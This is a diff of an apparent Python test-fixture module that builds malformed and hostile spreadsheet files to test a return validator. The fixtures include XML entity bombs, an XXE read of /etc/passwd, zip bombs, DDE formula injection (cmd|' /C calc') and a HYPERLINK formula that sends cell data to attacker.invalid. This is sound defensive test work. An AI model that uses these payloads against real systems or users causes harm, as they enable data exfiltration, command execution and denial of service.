@@ -36,9 +36,14 @@ from swtool.read.workbook import column_letter
 MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 STRICT_NS = "http://purl.oclc.org/ooxml/spreadsheetml/main"
 REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-SHEET = {"Return": "xl/worksheets/sheet1.xml", "Registrations": "xl/worksheets/sheet2.xml",
-         "Claims": "xl/worksheets/sheet3.xml", "Expenditure": "xl/worksheets/sheet4.xml",
-         "Narrative": "xl/worksheets/sheet5.xml", "Milestones": "xl/worksheets/sheet6.xml"}
+SHEET = {
+    "Return": "xl/worksheets/sheet1.xml",
+    "Registrations": "xl/worksheets/sheet2.xml",
+    "Claims": "xl/worksheets/sheet3.xml",
+    "Expenditure": "xl/worksheets/sheet4.xml",
+    "Narrative": "xl/worksheets/sheet5.xml",
+    "Milestones": "xl/worksheets/sheet6.xml",
+}
 CLAIMS = std.CLAIMS.headers
 
 
@@ -48,6 +53,7 @@ def col(sheet_headers, header: str) -> str:
 
 
 # --- zip plumbing -----------------------------------------------------------------------------------
+
 
 def parts(path: Path) -> dict[str, bytes]:
     with zipfile.ZipFile(path) as z:
@@ -69,8 +75,15 @@ def write_zip(path: Path, content: dict[str, bytes | Callable], level: int = 6) 
     return path
 
 
-def rezip(base: Path, dst: Path, *, replace: dict | None = None, add: dict | None = None,
-          drop: tuple[str, ...] = (), level: int = 6) -> Path:
+def rezip(
+    base: Path,
+    dst: Path,
+    *,
+    replace: dict | None = None,
+    add: dict | None = None,
+    drop: tuple[str, ...] = (),
+    level: int = 6,
+) -> Path:
     content = {n: d for n, d in parts(base).items() if n not in drop}
     content.update(replace or {})
     content.update(add or {})
@@ -96,14 +109,28 @@ def with_rows(base: Path, dst: Path, sheet: str, rows_xml: str, **kw) -> Path:
 def with_shared_strings(base: Path, dst: Path, sst: bytes | Callable, sheet_edit=None, **kw) -> Path:
     """Add a shared-strings part (openpyxl writes inline strings, Excel writes these)."""
     p = parts(base)
-    rels = p["xl/_rels/workbook.xml.rels"].decode().replace(
-        "</Relationships>", f'<Relationship Id="rIdSST" Type="{REL_NS}/sharedStrings" '
-        'Target="sharedStrings.xml"/></Relationships>')
-    ct = p["[Content_Types].xml"].decode().replace(
-        "</Types>", '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
-        'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
-    replace = {"xl/_rels/workbook.xml.rels": rels.encode(), "[Content_Types].xml": ct.encode(),
-               "xl/sharedStrings.xml": sst}
+    rels = (
+        p["xl/_rels/workbook.xml.rels"]
+        .decode()
+        .replace(
+            "</Relationships>",
+            f'<Relationship Id="rIdSST" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
+        )
+    )
+    ct = (
+        p["[Content_Types].xml"]
+        .decode()
+        .replace(
+            "</Types>",
+            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
+            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
+        )
+    )
+    replace = {
+        "xl/_rels/workbook.xml.rels": rels.encode(),
+        "[Content_Types].xml": ct.encode(),
+        "xl/sharedStrings.xml": sst,
+    }
     if sheet_edit:
         part, fn = sheet_edit
         replace[part] = fn(p[part].decode()).encode()
@@ -121,22 +148,34 @@ def cfb(streams: dict[str, bytes]) -> bytes:
         payload = payload.ljust(4096, b"\0")
         start, n = 2 + len(data), len(payload) // sector
         for k in range(n):
-            data.append(payload[k * sector:(k + 1) * sector])
+            data.append(payload[k * sector : (k + 1) * sector])
             fat.append(start + k + 1 if k < n - 1 else end)
         entries.append((name, start, len(payload)))
     fat += [free] * (sector // 4 - len(fat))
 
     def entry(name, kind, start, size, child=free, right=free):
         raw = (name + "\0").encode("utf-16-le")
-        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1) + struct.pack("<III", free, right, child)
-                + b"\0" * 20 + b"\0" * 16 + struct.pack("<IQ", start, size))
+        return (
+            raw.ljust(64, b"\0")
+            + struct.pack("<HBB", len(raw), kind, 1)
+            + struct.pack("<III", free, right, child)
+            + b"\0" * 20
+            + b"\0" * 16
+            + struct.pack("<IQ", start, size)
+        )
 
     directory = entry("Root Entry", 5, end, 0, child=1 if entries else free)
     for k, (name, start, size) in enumerate(entries, start=1):
         directory += entry(name, 2, start, size, right=k + 1 if k < len(entries) else free)
-    header = (bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
-              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<I", 0)
-              + struct.pack("<I", free) * 108)
+    header = (
+        bytes.fromhex("D0CF11E0A1B11AE1")
+        + b"\0" * 16
+        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
+        + b"\0" * 6
+        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
+        + struct.pack("<I", 0)
+        + struct.pack("<I", free) * 108
+    )
     return header + struct.pack("<128I", *fat) + directory.ljust(sector, b"\0") + b"".join(data)
 
 
@@ -149,10 +188,11 @@ def set_cell(xml: str, ref: str, new_cell: str) -> str:
     """Replace the ``<c r="ref">`` element of a sheet written by openpyxl (the cell must be there)."""
     m = re.search(rf'<c r="{ref}"(?:[^>]*?/>|[^>]*>.*?</c>)', xml, re.DOTALL)
     assert m, f"no cell {ref}"
-    return xml[:m.start()] + new_cell + xml[m.end():]
+    return xml[: m.start()] + new_cell + xml[m.end() :]
 
 
 # --- S001: files that are not a readable return --------------------------------------------------------
+
 
 def zero_bytes(tmp, base):
     p = tmp / "empty.xlsx"
@@ -185,10 +225,17 @@ def xls_renamed(tmp, base):
 
 
 def xlsm(tmp, base):
-    ct = parts(base)["[Content_Types].xml"].decode().replace(
-        "spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml")
-    return rezip(base, tmp / "return.xlsm", replace={"[Content_Types].xml": ct.encode()},
-                 add={"xl/vbaProject.bin": cfb({"VBA": b"Attribute VB_Name = \"Module1\""})})
+    ct = (
+        parts(base)["[Content_Types].xml"]
+        .decode()
+        .replace("spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml")
+    )
+    return rezip(
+        base,
+        tmp / "return.xlsm",
+        replace={"[Content_Types].xml": ct.encode()},
+        add={"xl/vbaProject.bin": cfb({"VBA": b'Attribute VB_Name = "Module1"'})},
+    )
 
 
 def vba_in_xlsx(tmp, base):  # the macro part alone, content types untouched, named .xlsx
@@ -196,14 +243,24 @@ def vba_in_xlsx(tmp, base):  # the macro part alone, content types untouched, na
 
 
 def macro_content_type(tmp, base):  # the macro-enabled content type alone, no macro part, named .xlsx
-    return edit(base, tmp / "return.xlsx", "[Content_Types].xml", lambda t: t.replace(
-        "spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml"))
+    return edit(
+        base,
+        tmp / "return.xlsx",
+        "[Content_Types].xml",
+        lambda t: t.replace("spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml"),
+    )
 
 
 def encrypted(tmp, base):
     p = tmp / "return.xlsx"
-    p.write_bytes(cfb({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00",
-                       "EncryptedPackage": struct.pack("<Q", 4096) + bytes(range(256)) * 8}))
+    p.write_bytes(
+        cfb(
+            {
+                "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00",
+                "EncryptedPackage": struct.pack("<Q", 4096) + bytes(range(256)) * 8,
+            }
+        )
+    )
     return p
 
 
@@ -213,33 +270,53 @@ def bare_cfb_header(tmp, base):  # the magic and a header, nothing in it
     return p
 
 
-LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
-          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
-          + ']>')
+LAUGHS = (
+    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
+    + "]>"
+)
 LAUGH_REF = "&lol9;"
 
 
 def laughs_in_sheet(tmp, base):
-    return edit(base, tmp / "laughs-sheet.xlsx", SHEET["Claims"], lambda t: prolog(t, LAUGHS).replace(
-        "<sheetData>", f'<sheetData><row r="40"><c r="A40" t="inlineStr"><is><t>{LAUGH_REF}</t></is></c></row>', 1))
+    return edit(
+        base,
+        tmp / "laughs-sheet.xlsx",
+        SHEET["Claims"],
+        lambda t: prolog(t, LAUGHS).replace(
+            "<sheetData>", f'<sheetData><row r="40"><c r="A40" t="inlineStr"><is><t>{LAUGH_REF}</t></is></c></row>', 1
+        ),
+    )
 
 
 def laughs_in_workbook(tmp, base):
-    return edit(base, tmp / "laughs-wb.xlsx", "xl/workbook.xml", lambda t: prolog(t, LAUGHS).replace(
-        'name="Milestones"', f'name="M{LAUGH_REF}"'))
+    return edit(
+        base,
+        tmp / "laughs-wb.xlsx",
+        "xl/workbook.xml",
+        lambda t: prolog(t, LAUGHS).replace('name="Milestones"', f'name="M{LAUGH_REF}"'),
+    )
 
 
 def laughs_in_shared_strings(tmp, base):
-    sst = (f'<?xml version="1.0"?>{LAUGHS}<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>{LAUGH_REF}</t>'
-           "</si></sst>").encode()
+    sst = (
+        f'<?xml version="1.0"?>{LAUGHS}<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>{LAUGH_REF}</t>'
+        "</si></sst>"
+    ).encode()
     return with_shared_strings(base, tmp / "laughs-sst.xlsx", sst)
 
 
 def laughs_behind_long_comment(tmp, base):  # the DOCTYPE starts 300 KB in, past any first chunk read
     noise = random.Random(7).choices("abcdefghijklmnopqrstuvwxyz ", k=300_000)  # not compressible: no zip bomb
     head = "<!--" + "".join(noise) + "-->" + LAUGHS
-    return edit(base, tmp / "laughs-comment.xlsx", SHEET["Claims"], lambda t: prolog(t, head).replace(
-        "<sheetData>", f'<sheetData><row r="40"><c r="A40" t="inlineStr"><is><t>{LAUGH_REF}</t></is></c></row>', 1))
+    return edit(
+        base,
+        tmp / "laughs-comment.xlsx",
+        SHEET["Claims"],
+        lambda t: prolog(t, head).replace(
+            "<sheetData>", f'<sheetData><row r="40"><c r="A40" t="inlineStr"><is><t>{LAUGH_REF}</t></is></c></row>', 1
+        ),
+    )
 
 
 def doctype_behind_comment(tmp, base):  # past the first 4 KB, still inside the first read of the part
@@ -250,15 +327,24 @@ def doctype_behind_comment(tmp, base):  # past the first 4 KB, still inside the 
 def quadratic_blowup(tmp, base):  # one 100 KB entity, used 10,000 times: 1 GB without nesting
     big = "".join(random.Random(3).choices("abcdefghijklmnopqrstuvwxyz", k=100_000))  # no zip bomb: the DTD decides
     head = '<!DOCTYPE sst [<!ENTITY big "' + big + '">]>'
-    sst = (f'<?xml version="1.0"?>{head}<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>'
-           + "&big;" * 10_000 + "</t></si></sst>").encode()
+    sst = (
+        f'<?xml version="1.0"?>{head}<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>'
+        + "&big;" * 10_000
+        + "</t></si></sst>"
+    ).encode()
     return with_shared_strings(base, tmp / "quadratic.xlsx", sst)
 
 
 def xxe_local_file(tmp, base):
     head = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-    return edit(base, tmp / "xxe.xlsx", SHEET["Claims"], lambda t: prolog(t, head).replace(
-        "<sheetData>", '<sheetData><row r="40"><c r="A40" t="inlineStr"><is><t>&xxe;</t></is></c></row>', 1))
+    return edit(
+        base,
+        tmp / "xxe.xlsx",
+        SHEET["Claims"],
+        lambda t: prolog(t, head).replace(
+            "<sheetData>", '<sheetData><row r="40"><c r="A40" t="inlineStr"><is><t>&xxe;</t></is></c></row>', 1
+        ),
+    )
 
 
 def external_dtd(tmp, base):
@@ -276,8 +362,14 @@ def malformed_shared_strings(tmp, base):
 
 
 def malformed_sheet_xml(tmp, base):  # passes the pre-flight, fails in the XML parser
-    return rezip(base, tmp / "malformed-sheet.xlsx", replace={SHEET["Claims"]: f'<worksheet xmlns="{MAIN_NS}">'
-                 '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Claim'.encode()})
+    return rezip(
+        base,
+        tmp / "malformed-sheet.xlsx",
+        replace={
+            SHEET["Claims"]: f'<worksheet xmlns="{MAIN_NS}">'
+            '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Claim'.encode()
+        },
+    )
 
 
 def missing_workbook_part(tmp, base):
@@ -285,11 +377,16 @@ def missing_workbook_part(tmp, base):
 
 
 def docx_renamed(tmp, base):
-    return write_zip(tmp / "return.xlsx", {
-        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-                               b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
-                               b'officedocument.wordprocessingml.document.main+xml"/></Types>',
-        "_rels/.rels": b"<Relationships/>", "word/document.xml": b"<w:document/>"})
+    return write_zip(
+        tmp / "return.xlsx",
+        {
+            "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+            b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
+            b'officedocument.wordprocessingml.document.main+xml"/></Types>',
+            "_rels/.rels": b"<Relationships/>",
+            "word/document.xml": b"<w:document/>",
+        },
+    )
 
 
 def ods_renamed(tmp, base):
@@ -303,9 +400,15 @@ def ods_renamed(tmp, base):
 
 def strict_ooxml(tmp, base):
     p = parts(base)
-    return rezip(base, tmp / "strict.xlsx", replace={
-        n: d.decode().replace(MAIN_NS, STRICT_NS).encode() for n, d in p.items()
-        if n.startswith("xl/") and n.endswith(".xml")})
+    return rezip(
+        base,
+        tmp / "strict.xlsx",
+        replace={
+            n: d.decode().replace(MAIN_NS, STRICT_NS).encode()
+            for n, d in p.items()
+            if n.startswith("xl/") and n.endswith(".xml")
+        },
+    )
 
 
 def zip_slip_dotdot(tmp, base):
@@ -345,12 +448,18 @@ def _bomb(row: bytes, total: int):
         for _ in range(total // len(block)):
             yield block
         yield b"</sheetData></worksheet>"
+
     return chunks
 
 
 def zip_bomb_sheet(tmp, base):  # 96 MB of one repeated row in ~100 KB
-    return rezip(base, tmp / "bomb-sheet.xlsx", replace={
-        SHEET["Claims"]: _bomb(b'<row><c t="inlineStr"><is><t>' + b"A" * 2000 + b"</t></is></c></row>", 96 << 20)})
+    return rezip(
+        base,
+        tmp / "bomb-sheet.xlsx",
+        replace={
+            SHEET["Claims"]: _bomb(b'<row><c t="inlineStr"><is><t>' + b"A" * 2000 + b"</t></is></c></row>", 96 << 20)
+        },
+    )
 
 
 def zip_bomb_shared_strings(tmp, base):  # 96 MB of shared strings: always loaded whole by openpyxl
@@ -360,6 +469,7 @@ def zip_bomb_shared_strings(tmp, base):  # 96 MB of shared strings: always loade
         for _ in range((96 << 20) // len(block)):
             yield block
         yield b"</sst>"
+
     return with_shared_strings(base, tmp / "bomb-sst.xlsx", sst)
 
 
@@ -368,12 +478,12 @@ def _patch_sizes(path: Path, member: str, size: int) -> Path:
     data = bytearray(path.read_bytes())
     with zipfile.ZipFile(path) as z:
         offset = z.getinfo(member).header_offset
-    assert data[offset:offset + 4] == b"PK\x03\x04"
+    assert data[offset : offset + 4] == b"PK\x03\x04"
     struct.pack_into("<I", data, offset + 22, size)
     k = data.find(b"PK\x01\x02")
     while k >= 0:
         n = struct.unpack_from("<H", data, k + 28)[0]
-        if bytes(data[k + 46:k + 46 + n]) == member.encode():
+        if bytes(data[k + 46 : k + 46 + n]) == member.encode():
             struct.pack_into("<I", data, k + 24, size)
         k = data.find(b"PK\x01\x02", k + 4)
     path.write_bytes(bytes(data))
@@ -381,8 +491,13 @@ def _patch_sizes(path: Path, member: str, size: int) -> Path:
 
 
 def lying_sizes_small(tmp, base):  # the headers say 200 bytes; the part inflates to 2 MB
-    p = rezip(base, tmp / "liar.xlsx", replace={SHEET["Claims"]: _bomb(
-        b'<row><c t="inlineStr"><is><t>' + b"A" * 200 + b"</t></is></c></row>", 2 << 20)})
+    p = rezip(
+        base,
+        tmp / "liar.xlsx",
+        replace={
+            SHEET["Claims"]: _bomb(b'<row><c t="inlineStr"><is><t>' + b"A" * 200 + b"</t></is></c></row>", 2 << 20)
+        },
+    )
     return _patch_sizes(p, SHEET["Claims"], 200)
 
 
@@ -405,77 +520,121 @@ def shared_string_amplifier(tmp, base):
     if each reference became its own copy."""
     sst = f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>{"W" * 40_000}</t></si></sst>'.encode()
     rows = "".join(f'<row r="{r}"><c r="B{r}" t="s"><v>0</v></c></row>' for r in range(20, 20_020))
-    return with_shared_strings(base, tmp / "amplifier.xlsx", sst, sheet_edit=(
-        SHEET["Narrative"], lambda t: t.replace("</sheetData>", rows + "</sheetData>")))
+    return with_shared_strings(
+        base,
+        tmp / "amplifier.xlsx",
+        sst,
+        sheet_edit=(SHEET["Narrative"], lambda t: t.replace("</sheetData>", rows + "</sheetData>")),
+    )
 
 
 def invalid_sheet_name(tmp, base):
-    return edit(base, tmp / "bad-name.xlsx", "xl/workbook.xml", lambda t: t.replace('name="Milestones"',
-                                                                                   'name="Q2/2026"'))
+    return edit(
+        base, tmp / "bad-name.xlsx", "xl/workbook.xml", lambda t: t.replace('name="Milestones"', 'name="Q2/2026"')
+    )
 
 
 def blank_sheet_name(tmp, base):
-    return edit(base, tmp / "blank-name.xlsx", "xl/workbook.xml", lambda t: t.replace('name="Milestones"',
-                                                                                     'name=" "'))
+    return edit(base, tmp / "blank-name.xlsx", "xl/workbook.xml", lambda t: t.replace('name="Milestones"', 'name=" "'))
 
 
 def duplicate_sheet_names(tmp, base):
-    return edit(base, tmp / "dup-names.xlsx", "xl/workbook.xml", lambda t: t.replace('name="Milestones"',
-                                                                                    'name="CLAIMS"'))
+    return edit(
+        base, tmp / "dup-names.xlsx", "xl/workbook.xml", lambda t: t.replace('name="Milestones"', 'name="CLAIMS"')
+    )
 
 
 def duplicate_sheet_names_exact(tmp, base):
-    return edit(base, tmp / "dup-names-exact.xlsx", "xl/workbook.xml", lambda t: t.replace('name="Milestones"',
-                                                                                          'name="Claims"'))
+    return edit(
+        base, tmp / "dup-names-exact.xlsx", "xl/workbook.xml", lambda t: t.replace('name="Milestones"', 'name="Claims"')
+    )
 
 
 def all_sheets_hidden(tmp, base):
-    return edit(base, tmp / "all-hidden.xlsx", "xl/workbook.xml", lambda t: t.replace('state="visible"',
-                                                                                     'state="hidden"'))
+    return edit(
+        base, tmp / "all-hidden.xlsx", "xl/workbook.xml", lambda t: t.replace('state="visible"', 'state="hidden"')
+    )
 
 
 # --- files that open: a clean read or specific findings ------------------------------------------------
 
+
 def embedded_ole_activex(tmp, base):
-    return rezip(base, tmp / "ole.xlsx", add={
-        "xl/embeddings/oleObject1.bin": cfb({"\x01Ole10Native": b"MZ\x90\x00 payload"}),
-        "xl/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
-                                   b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage"/>',
-        "xl/activeX/activeX1.bin": cfb({"contents": b"\x00" * 64})})
+    return rezip(
+        base,
+        tmp / "ole.xlsx",
+        add={
+            "xl/embeddings/oleObject1.bin": cfb({"\x01Ole10Native": b"MZ\x90\x00 payload"}),
+            "xl/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
+            b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage"/>',
+            "xl/activeX/activeX1.bin": cfb({"contents": b"\x00" * 64}),
+        },
+    )
 
 
 def external_link(tmp, base):
     p = parts(base)
-    wb = p["xl/workbook.xml"].decode().replace(
-        "<definedNames", '<externalReferences><externalReference r:id="rIdX1"/></externalReferences><definedNames')
-    rels = p["xl/_rels/workbook.xml.rels"].decode().replace(
-        "</Relationships>", f'<Relationship Id="rIdX1" Type="{REL_NS}/externalLink" '
-        'Target="externalLinks/externalLink1.xml"/></Relationships>')
-    ct = p["[Content_Types].xml"].decode().replace(
-        "</Types>", '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
-        'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
-    link = (f'<externalLink xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><externalBook r:id="rId1"><sheetNames>'
-            '<sheetName val="Pay"/></sheetNames></externalBook></externalLink>').encode()
-    link_rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-                 b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-                 b'externalLinkPath" Target="file:///\\\\attacker.invalid\\share\\pay.xlsx" TargetMode="External"/>'
-                 b'</Relationships>')
-    return rezip(base, tmp / "links.xlsx", replace={"xl/workbook.xml": wb.encode(),
-                                                   "xl/_rels/workbook.xml.rels": rels.encode(),
-                                                   "[Content_Types].xml": ct.encode()},
-                 add={"xl/externalLinks/externalLink1.xml": link,
-                      "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})
+    wb = (
+        p["xl/workbook.xml"]
+        .decode()
+        .replace(
+            "<definedNames", '<externalReferences><externalReference r:id="rIdX1"/></externalReferences><definedNames'
+        )
+    )
+    rels = (
+        p["xl/_rels/workbook.xml.rels"]
+        .decode()
+        .replace(
+            "</Relationships>",
+            f'<Relationship Id="rIdX1" Type="{REL_NS}/externalLink" '
+            'Target="externalLinks/externalLink1.xml"/></Relationships>',
+        )
+    )
+    ct = (
+        p["[Content_Types].xml"]
+        .decode()
+        .replace(
+            "</Types>",
+            '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
+            'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
+        )
+    )
+    link = (
+        f'<externalLink xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><externalBook r:id="rId1"><sheetNames>'
+        '<sheetName val="Pay"/></sheetNames></externalBook></externalLink>'
+    ).encode()
+    link_rels = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'externalLinkPath" Target="file:///\\\\attacker.invalid\\share\\pay.xlsx" TargetMode="External"/>'
+        b"</Relationships>"
+    )
+    return rezip(
+        base,
+        tmp / "links.xlsx",
+        replace={
+            "xl/workbook.xml": wb.encode(),
+            "xl/_rels/workbook.xml.rels": rels.encode(),
+            "[Content_Types].xml": ct.encode(),
+        },
+        add={"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels},
+    )
 
 
 def lying_dimension(tmp, base):
-    return rezip(base, tmp / "dimension.xlsx", replace={
-        n: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', d.decode()).encode()
-        for n, d in parts(base).items() if n.startswith("xl/worksheets/")})
+    return rezip(
+        base,
+        tmp / "dimension.xlsx",
+        replace={
+            n: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', d.decode()).encode()
+            for n, d in parts(base).items()
+            if n.startswith("xl/worksheets/")
+        },
+    )
 
 
 def stray_far_cell(tmp, base):
-    return with_rows(base, tmp / "stray.xlsx", "Claims", '<row r="1048576">' + inline("XFD1048576", "stray")
-                     + "</row>")
+    return with_rows(base, tmp / "stray.xlsx", "Claims", '<row r="1048576">' + inline("XFD1048576", "stray") + "</row>")
 
 
 def wide_row(tmp, base):  # the header row of Claims runs on to column XFD: 16,384 cells
@@ -487,17 +646,25 @@ def formula_without_value(tmp, base):
     def fn(t):
         t = set_cell(t, f"{col(CLAIMS, 'Weekly hours')}2", f'<c r="{col(CLAIMS, "Weekly hours")}2"><f>30+7.5</f></c>')
         return t
+
     return edit(base, tmp / "formula-novalue.xlsx", SHEET["Claims"], fn)
 
 
 def formula_forged_value(tmp, base):  # the formula says "2a"; the value saved with it says "9z"
     ref = f"{col(CLAIMS, 'Output')}2"
-    return edit(base, tmp / "formula-forged.xlsx", SHEET["Claims"],
-                lambda t: set_cell(t, ref, f'<c r="{ref}" t="str"><f>"2a"</f><v>9z</v></c>'))
+    return edit(
+        base,
+        tmp / "formula-forged.xlsx",
+        SHEET["Claims"],
+        lambda t: set_cell(t, ref, f'<c r="{ref}" t="str"><f>"2a"</f><v>9z</v></c>'),
+    )
 
 
-INJECTION = {"Output": '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")', "Employer": "+cmd|' /C calc'!A0",
-             "Evidence reference": "@SUM(1+1)*cmd|' /C calc'!A0"}
+INJECTION = {
+    "Output": '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")',
+    "Employer": "+cmd|' /C calc'!A0",
+    "Evidence reference": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
 
 
 def formula_injection_text(tmp, base):
@@ -506,6 +673,7 @@ def formula_injection_text(tmp, base):
             ref = f"{col(CLAIMS, header)}2"
             t = set_cell(t, ref, inline(ref, text))
         return t
+
     return edit(base, tmp / "injection.xlsx", SHEET["Claims"], fn)
 
 
@@ -522,16 +690,16 @@ def _openpyxl_edit(base: Path, dst: Path, fn) -> Path:
 
 
 DATE_FORMS = [  # (value in Milestones' Date achieved, number format or None)
-    (datetime(2026, 9, 3), "DD/MM/YYYY"),       # row 2: a real date
-    (46268, None),                               # row 3: the serial of 03/09/2026, its format lost (S007)
-    ("03/09/2026", None),                        # row 4: text, UK order (S007)
-    ("2026-09-03", None),                        # row 5: text, ISO (S007)
-    ("3rd September", None),                     # row 6: not a date (S004)
-    (0, "DD/MM/YYYY"),                           # row 7: serial 0 comes back as a time (S004)
-    (60, "DD/MM/YYYY"),                          # row 8: Excel's 29/02/1900 comes back as 28/02/1900
-    (date(2026, 9, 3), "DD/MM/YYYY"),            # row 9: a date cell
-    (-1, "DD/MM/YYYY"),                          # row 10: before Excel's epoch: a number (S004)
-    ("31/02/2026", None),                        # row 11: no such day (S004)
+    (datetime(2026, 9, 3), "DD/MM/YYYY"),  # row 2: a real date
+    (46268, None),  # row 3: the serial of 03/09/2026, its format lost (S007)
+    ("03/09/2026", None),  # row 4: text, UK order (S007)
+    ("2026-09-03", None),  # row 5: text, ISO (S007)
+    ("3rd September", None),  # row 6: not a date (S004)
+    (0, "DD/MM/YYYY"),  # row 7: serial 0 comes back as a time (S004)
+    (60, "DD/MM/YYYY"),  # row 8: Excel's 29/02/1900 comes back as 28/02/1900
+    (date(2026, 9, 3), "DD/MM/YYYY"),  # row 9: a date cell
+    (-1, "DD/MM/YYYY"),  # row 10: before Excel's epoch: a number (S004)
+    ("31/02/2026", None),  # row 11: no such day (S004)
 ]
 
 
@@ -546,12 +714,14 @@ def dates_every_form(tmp, base):
             c = ws.cell(r, d, value)
             if fmt:
                 c.number_format = fmt
+
     return _openpyxl_edit(base, tmp / "dates.xlsx", fn)
 
 
 def dates_1904(tmp, base):
     def fn(wb):
         wb.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
+
     return _openpyxl_edit(base, tmp / "mac-1904.xlsx", fn)
 
 
@@ -559,6 +729,7 @@ def merged_two_row_header(tmp, base, split: str = "Employer"):
     """Row 1: the headers up to ``split`` merged down over rows 1-2, then a group label merged across
     the rest; row 2: the rest of the headers; data from row 3. With an early split most names are in
     row 2 (the row above lends the others), with a late one in row 1 (the row below lends them)."""
+
     def fn(wb):
         ws = wb["Claims"]
         data = [c.value for c in ws[2]]
@@ -574,6 +745,7 @@ def merged_two_row_header(tmp, base, split: str = "Employer"):
         ws.merge_cells(start_row=1, start_column=k + 1, end_row=1, end_column=len(CLAIMS))
         for j, v in enumerate(data, start=1):
             ws.cell(3, j, v)
+
     return _openpyxl_edit(base, tmp / "two-row-header.xlsx", fn)
 
 
@@ -583,6 +755,7 @@ def merged_two_row_header_late(tmp, base):
 
 def header_not_in_row_1(tmp, base):
     """A merged title, a blank row, notes, and the header on row 6 starting in column C."""
+
     def fn(wb):
         ws = wb["Claims"]
         data = [c.value for c in ws[2]]
@@ -594,17 +767,20 @@ def header_not_in_row_1(tmp, base):
         for j, (h, v) in enumerate(zip(CLAIMS, data), start=3):
             ws.cell(6, j, h)
             ws.cell(7, j, v)
+
     return _openpyxl_edit(base, tmp / "header-row-6.xlsx", fn)
 
 
 def hidden_sheets(tmp, base):
     """Claims hidden and made the active sheet; a very hidden sheet of lookups."""
+
     def fn(wb):
         secret = wb.create_sheet("Lookups")
         secret["A1"] = "=cmd|' /C calc'!A0"
         secret.sheet_state = "veryHidden"
         wb["Claims"].sheet_state = "hidden"
         wb.active = wb.sheetnames.index("Claims")
+
     return _openpyxl_edit(base, tmp / "hidden.xlsx", fn)
 
 
@@ -617,6 +793,7 @@ def hidden_rows(tmp, base):
         ws.cell(3, 1, "CL-0002")
         ws.cell(3, CLAIMS.index("Output") + 1, "zz")
         ws.row_dimensions[3].hidden = True
+
     return _openpyxl_edit(base, tmp / "hidden-rows.xlsx", fn)
 
 
@@ -624,9 +801,10 @@ def duplicate_and_blank_headers(tmp, base):
     def fn(wb):
         ws = wb["Claims"]
         n = len(CLAIMS)
-        ws.cell(1, n + 1, "Output")       # a second Output column
+        ws.cell(1, n + 1, "Output")  # a second Output column
         ws.cell(2, n + 1, "9z")
-        ws.cell(2, n + 2, "no header")    # data under a blank header
